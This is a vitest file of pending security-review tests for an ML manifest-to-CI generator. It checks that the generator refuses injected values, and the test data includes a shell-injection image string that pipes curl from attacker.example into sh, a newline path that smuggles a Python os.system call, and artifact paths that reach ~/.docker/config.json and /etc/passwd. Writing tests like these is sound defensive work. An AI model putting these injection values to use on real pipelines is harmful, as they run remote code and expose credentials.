/**
 * Findings of the security review whose fix lives in files another branch is rewriting
 * (src/manifest/schema.ts per-field grammars, src/files/header.ts, src/targets/*): the tests
 * are written and marked todo, so the lead can drop `.todo` once the grammar lands. Each fails
 * on c4e22b8 and on this branch.
 */
import { describe, expect, it } from 'vitest';
import { generate } from '../../src/engine/generate.js';
import { loadManifest } from '../../src/manifest/index.js';

const base = (...extra: string[]) => ['version: 1', 'name: m', 'train:', '  run: python train.py', ...extra, ''].join('\n');
const refused = (source: string, path: string) => {
  const loaded = loadManifest(source, 'mlgen.yaml');
  expect(loaded.ok).toBe(false);
  expect(loaded.diagnostics.map((d) => d.path.join('.'))).toContain(path);
};

describe('todo: per-field grammars and header escaping (schema.ts, header.ts, targets)', () => {
  it.todo('finding 1: an image with shell metacharacters is refused in defaults.image, train.image and predict.image', () => {
    const image = 'python:3.11-slim;curl -s https://attacker.example/x|sh;';
    refused(base('defaults:', `  image: ${JSON.stringify(image)}`), 'defaults.image');
    refused(base().replace('  run: python train.py', `  run: python train.py\n  image: ${JSON.stringify(image)}`), 'train.image');
  });

  it.todo('finding 2: a manifest path with a newline cannot put code into any generated file', () => {
    const manifestPath = 't3/x\n__import__("os").system("id") #/mlgen.yaml';
    const result = generate(base('evaluate:', '  metrics: metrics.json', '  gates: [{ metric: mae, max: 1 }]'), { manifestPath });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    for (const file of result.files) expect(file.content.split('\n').filter((l) => l.startsWith('__import__')), file.path).toEqual([]);
  });

  it.todo('finding 6: artifact and metrics paths that escape the workspace are refused (~/, newline, comma)', () => {
    refused(base().replace('  run: python train.py', '  run: python train.py\n  artifacts: ["~/.docker/config.json"]'), 'train.artifacts.0');
    refused(base().replace('  run: python train.py', '  run: python train.py\n  artifacts: ["model/\\n/etc/passwd"]'), 'train.artifacts.0');
    refused(base().replace('  run: python train.py', '  run: python train.py\n  artifacts: ["model/a,../../x"]'), 'train.artifacts.0');
    refused(base('evaluate:', '  metrics: "~/metrics.json"', '  gates: [{ metric: mae, max: 1 }]'), 'evaluate.metrics');
  });

  it.todo('finding 9: $VARIABLE in fields GitLab expands (image, artifacts, environment url) is refused', () => {
    refused(base('defaults:', '  image: "registry.example.com/$SECRET/img"'), 'defaults.image');
    refused(base().replace('  run: python train.py', '  run: python train.py\n  artifacts: ["$SECRET/model"]'), 'train.artifacts.0');
  });
});
